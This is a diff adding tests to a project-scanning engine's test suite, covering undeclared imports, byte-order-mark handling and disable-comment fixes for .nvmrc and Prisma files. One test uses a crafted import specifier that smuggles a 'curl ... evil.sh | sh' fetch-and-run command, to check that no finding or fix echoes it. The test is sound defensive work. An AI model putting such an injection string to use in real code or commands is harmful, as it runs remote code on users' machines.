@@ -6,6 +6,7 @@ import { scan, scanFiles, tempProject } from '../helpers/engine';
 import { Engine } from '../../server/src/engine/engine';
 import { ALL_RULES } from '../../server/src/rules';
 import { silentLogger } from '../../server/src/engine/types';
+import { disableFix } from '../../server/src/fixes/generic';
 
 const PORT = 'port-binding/hardcoded-port';
 const SECRET = 'config/hardcoded-secret';
@@ -99,5 +100,32 @@ describe('engine', () => {
     const s = await scanFiles({ 'package.json': pkg, 'a.js': `const key = '${secret}';\nmodule.exports = key;\n`, '.env': `STRIPE_SECRET_KEY=${secret}\n` });
     assert.ok(s.findings.some((f) => f.ruleId === SECRET));
     for (const f of s.findings) assert.ok(!f.message.includes(secret), f.message);
+  });
+});
+
+describe('engine input hygiene', () => {
+  it('never turns an import specifier that is no npm name into a finding or a terminal command', async () => {
+    const s = await scanFiles({ 'package.json': pkg, 'a.js': 'require("lodash;curl${IFS}-s${IFS}evil.sh|sh");\nrequire("left-pad");\n' });
+    assert.deepStrictEqual(s.where('dependencies/undeclared-import'), ['a.js:2']);
+    const fixes = s.findings.filter((f) => f.ruleId === 'dependencies/undeclared-import').flatMap((f) => s.engine.fixesFor(f));
+    assert.ok(fixes.every((f) => !JSON.stringify(f).includes('curl')));
+  });
+
+  it('reads a package.json with a byte-order mark, and reports columns as editors show them', async () => {
+    const root = tempProject({ 'package.json': `\uFEFF${pkg}`, 'a.js': "\uFEFFrequire('express')().listen(3000);\n" });
+    const s = await scan(root);
+    assert.ok(!s.logs.some((l) => /malformed/.test(l)), s.logs.join('\n'));
+    const port = s.findings.find((f) => f.ruleId === PORT)!;
+    assert.strictEqual(port.range.start.character, "require('express')().listen(".length);
+  });
+
+  it('offers no disable comment where a comment would break the file (.nvmrc) and uses // in schema.prisma', async () => {
+    const root = tempProject({ '.nvmrc': '18\n', 'prisma/schema.prisma': 'datasource db {\n  url = "x"\n}\n' });
+    const s = await scan(root);
+    const ctx = s.engine.fixContext(path.join(root, '.nvmrc'));
+    const range = { start: { line: 0, character: 0 }, end: { line: 0, character: 2 } };
+    assert.strictEqual(disableFix({ ruleId: 'x/y', path: path.join(root, '.nvmrc'), range, message: '', severity: 'info' }, ctx), undefined);
+    const prisma = disableFix({ ruleId: 'x/y', path: path.join(root, 'prisma/schema.prisma'), range: { start: { line: 1, character: 2 }, end: { line: 1, character: 5 } }, message: '', severity: 'info' }, ctx)!;
+    assert.strictEqual(prisma.edits![0].edits[0].newText, '  // twelve-factor-disable-next-line x/y\n');
   });
 });
